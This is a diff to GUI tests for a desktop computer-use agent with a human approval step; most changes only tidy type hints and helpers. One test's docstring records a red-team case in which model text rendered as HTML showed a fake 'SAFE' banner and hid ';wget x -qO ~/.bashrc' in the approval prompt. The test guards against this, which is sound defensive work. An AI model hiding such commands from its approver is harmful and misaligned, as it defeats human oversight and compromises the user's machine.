@@ -12,6 +12,7 @@ from pathlib import Path
 
 import pytest
 from PySide6.QtCore import QPoint, Qt
+from pytestqt.qtbot import QtBot
 
 from agent.events import ModelReplied, RunFinished
 from agent.families import get_family, model_input_size
@@ -19,6 +20,7 @@ from agent.prompts import TextPart
 from app.gui.main_window import MainWindow
 from app.settings import SettingsStore, load_settings
 from tests.helpers.gui_window import scripted_windows
+from tests.helpers.replies import FINISH, qwen_click
 from tests.helpers.target import TargetWindow
 
 pytestmark = pytest.mark.display
@@ -26,16 +28,6 @@ Factory = Callable[..., TargetWindow]
 DESKPILOT = Path(sys.executable).with_name("deskpilot")
 MODEL_W, MODEL_H = model_input_size(get_family("qwen2.5-vl"), 1920, 1080)  # 1932x1092
 RUN_TIMEOUT_MS = 30_000
-
-
-def click_reply(x: int, y: int) -> str:
-    args = {"action": "left_click", "coordinate": [round(x * MODEL_W / 1920), round(y * MODEL_H / 1080)]}
-    return "<tool_call>\n" + json.dumps({"name": "computer_use", "arguments": args}) + "\n</tool_call>"
-
-
-FINISH = (
-    '<tool_call>\n{"name": "computer_use", "arguments": {"action": "terminate", "status": "success"}}\n</tool_call>'
-)
 
 
 @pytest.fixture
@@ -46,7 +38,7 @@ def isolated_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 
 
 @pytest.fixture
-def make_window(qtbot, isolated_config: Path) -> Iterator[Callable[..., MainWindow]]:  # type: ignore[no-untyped-def]
+def make_window(qtbot: QtBot, isolated_config: Path) -> Iterator[Callable[..., MainWindow]]:
     base = {"mode": "approve", "record": False, "countdown_s": 0.6}
     # right of the target window: deskpilot never clicks itself
     with scripted_windows(qtbot, isolated_config, base, lambda window: window.setGeometry(1100, 0, 820, 1000)) as make:
@@ -67,11 +59,11 @@ def expected_scene(x: int, y: int) -> tuple[float, float]:
 
 
 def test_approve_shows_the_marker_where_the_click_lands_then_executes(
-    qtbot, make_window, target_window: Factory
-) -> None:  # type: ignore[no-untyped-def]
+    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
+) -> None:
     target = target_window(x=60, y=80, width=1000, height=700)
     sx, sy = target.centre("Submit")
-    window = make_window([click_reply(sx, sy), FINISH])
+    window = make_window([qwen_click(sx, sy), FINISH])
     with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS) as finished:
         start(window, "click Submit")
         qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
@@ -87,10 +79,12 @@ def test_approve_shows_the_marker_where_the_click_lands_then_executes(
     target.wait_for(lambda e: e["event"] == "clicked" and e["clicked"] == "Submit")
 
 
-def test_reject_does_nothing_and_sends_the_note_back(qtbot, make_window, target_window: Factory) -> None:  # type: ignore[no-untyped-def]
+def test_reject_does_nothing_and_sends_the_note_back(
+    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
+) -> None:
     target = target_window(x=60, y=80, width=1000, height=700)
     sx, sy = target.centre("Submit")
-    window = make_window([click_reply(sx, sy), FINISH])
+    window = make_window([qwen_click(sx, sy), FINISH])
     with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS):
         events = start(window, "click Submit")
         qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
@@ -103,11 +97,13 @@ def test_reject_does_nothing_and_sends_the_note_back(qtbot, make_window, target_
     assert "The user rejected that action: use the Cancel button instead" in texts
 
 
-def test_moving_the_target_on_the_preview_executes_at_the_new_point(qtbot, make_window, target_window: Factory) -> None:  # type: ignore[no-untyped-def]
+def test_moving_the_target_on_the_preview_executes_at_the_new_point(
+    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
+) -> None:
     target = target_window(x=60, y=80, width=1000, height=700)
     sx, sy = target.centre("Submit")
     cx, cy = target.centre("Cancel")
-    window = make_window([click_reply(sx, sy), FINISH])
+    window = make_window([qwen_click(sx, sy), FINISH])
     with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS):
         start(window, "click Submit")
         qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
@@ -123,9 +119,9 @@ def test_moving_the_target_on_the_preview_executes_at_the_new_point(qtbot, make_
     assert not [e for e in target.events("clicked") if e["clicked"] == "Submit"]
 
 
-def test_stop_ends_the_run(qtbot, make_window, target_window: Factory) -> None:  # type: ignore[no-untyped-def]
+def test_stop_ends_the_run(qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory) -> None:
     target = target_window(x=60, y=80, width=1000, height=700)
-    window = make_window([click_reply(*target.centre("Submit")), FINISH])
+    window = make_window([qwen_click(*target.centre("Submit")), FINISH])
     with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS) as finished:
         start(window, "click Submit")
         qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
@@ -135,9 +131,11 @@ def test_stop_ends_the_run(qtbot, make_window, target_window: Factory) -> None: 
     assert not target.events("press")
 
 
-def test_auto_mode_counts_down_then_runs(qtbot, make_window, target_window: Factory) -> None:  # type: ignore[no-untyped-def]
+def test_auto_mode_counts_down_then_runs(
+    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
+) -> None:
     target = target_window(x=60, y=80, width=1000, height=700)
-    window = make_window([click_reply(*target.centre("Submit")), FINISH], mode="auto")
+    window = make_window([qwen_click(*target.centre("Submit")), FINISH], mode="auto")
     counts: list[float] = []
     with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS) as finished:
         start(window, "click Submit")
@@ -147,9 +145,11 @@ def test_auto_mode_counts_down_then_runs(qtbot, make_window, target_window: Fact
     target.wait_for(lambda e: e["event"] == "clicked" and e["clicked"] == "Submit")
 
 
-def test_closing_the_window_stops_the_run(qtbot, make_window, target_window: Factory) -> None:  # type: ignore[no-untyped-def]
+def test_closing_the_window_stops_the_run(
+    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
+) -> None:
     target = target_window(x=60, y=80, width=1000, height=700)
-    window = make_window([click_reply(*target.centre("Submit")), FINISH])
+    window = make_window([qwen_click(*target.centre("Submit")), FINISH])
     with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS) as finished:
         start(window, "click Submit")
         qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
@@ -158,7 +158,7 @@ def test_closing_the_window_stops_the_run(qtbot, make_window, target_window: Fac
     assert not target.events("press")
 
 
-def test_settings_persist_across_a_restart(qtbot, isolated_config: Path) -> None:  # type: ignore[no-untyped-def]
+def test_settings_persist_across_a_restart(qtbot: QtBot, isolated_config: Path) -> None:
     path = isolated_config / "settings.toml"
     window = MainWindow(SettingsStore(path))
     qtbot.addWidget(window)
@@ -190,7 +190,7 @@ def test_gui_command_runs_a_scripted_task_in_auto_mode(target_window: Factory, i
     before = settings_file.read_bytes()
     script = isolated_config / "s.jsonl"
     script.write_text(
-        json.dumps({"raw": click_reply(*target.centre("Submit"))}) + "\n" + json.dumps({"raw": FINISH}) + "\n"
+        json.dumps({"raw": qwen_click(*target.centre("Submit"))}) + "\n" + json.dumps({"raw": FINISH}) + "\n"
     )
     env = {**os.environ, "XDG_CONFIG_HOME": str(isolated_config / "c"), "XDG_DATA_HOME": str(isolated_config / "d")}
     out = subprocess.run(
@@ -222,7 +222,7 @@ def test_gui_command_runs_a_scripted_task_in_auto_mode(target_window: Factory, i
     assert not [p.name for p in settings_file.parent.iterdir() if p.name.startswith("settings.toml.")]
 
 
-def test_an_unreadable_settings_file_is_never_written_over(qtbot, isolated_config: Path) -> None:  # type: ignore[no-untyped-def]
+def test_an_unreadable_settings_file_is_never_written_over(qtbot: QtBot, isolated_config: Path) -> None:
     """redteam #11: one typo, and closing the window rewrote the file with every default."""
     path = isolated_config / "settings.toml"
     text = 'backend = "openai"\nendpoint = "http://127.0.0.1:9/v1"\nfamly = "qwen3-vl"\n'
@@ -247,7 +247,7 @@ def test_gui_without_a_display_is_a_clear_error() -> None:
     assert out.returncode == 2 and out.stderr.startswith("error: no display")
 
 
-def test_calibrate_button_measures_the_ocr_grounder_on_the_practice_board(qtbot, isolated_config: Path) -> None:  # type: ignore[no-untyped-def]
+def test_calibrate_button_measures_the_ocr_grounder_on_the_practice_board(qtbot: QtBot, isolated_config: Path) -> None:
     sessions = isolated_config / "sessions"
     overrides = {"backend": "ocr", "record": True, "recording_dir": str(sessions)}
     window = MainWindow(SettingsStore(isolated_config / "settings.toml", overrides=overrides))
@@ -265,13 +265,13 @@ def test_calibrate_button_measures_the_ocr_grounder_on_the_practice_board(qtbot,
     assert not board.isVisible()  # the board goes with the window
 
 
-def test_runs_are_recorded_and_the_browser_shows_replays_exports_and_deletes(  # type: ignore[no-untyped-def]
-    qtbot, make_window, target_window: Factory, isolated_config: Path
+def test_runs_are_recorded_and_the_browser_shows_replays_exports_and_deletes(
+    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory, isolated_config: Path
 ) -> None:
     target = target_window(x=60, y=80, width=1000, height=700)
     sx, sy = target.centre("Submit")
     root = isolated_config / "sessions"
-    window = make_window([click_reply(sx, sy), FINISH], mode="auto", record=True, recording_dir=str(root))
+    window = make_window([qwen_click(sx, sy), FINISH], mode="auto", record=True, recording_dir=str(root))
     with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS):
         start(window, "click Submit")
     browser = window.open_sessions()
@@ -314,7 +314,9 @@ def test_make_run_command_opens_the_window_with_the_practice_board(isolated_conf
     assert "Traceback" not in stderr.decode()
 
 
-def test_model_text_is_shown_as_plain_text_never_as_html(qtbot, make_window, target_window: Factory) -> None:  # type: ignore[no-untyped-def]
+def test_model_text_is_shown_as_plain_text_never_as_html(
+    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
+) -> None:
     """redteam #7: the thought's <h1 style="color:green">SAFE</h1> rendered large and green, and a 1-px
     paragraph hid ';wget x -qO ~/.bashrc' in the approval prompt."""
     target = target_window(x=60, y=80, width=1000, height=700)
@@ -340,7 +342,7 @@ def test_model_text_is_shown_as_plain_text_never_as_html(qtbot, make_window, tar
     assert target.events("key_press") == []
 
 
-def test_settings_dialog_offers_the_server_for_openai_only_and_the_zoom_pass(qtbot, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_settings_dialog_offers_the_server_for_openai_only_and_the_zoom_pass(qtbot: QtBot, tmp_path: Path) -> None:
     from app.gui.settings_dialog import SettingsDialog
     from app.settings import Settings
 
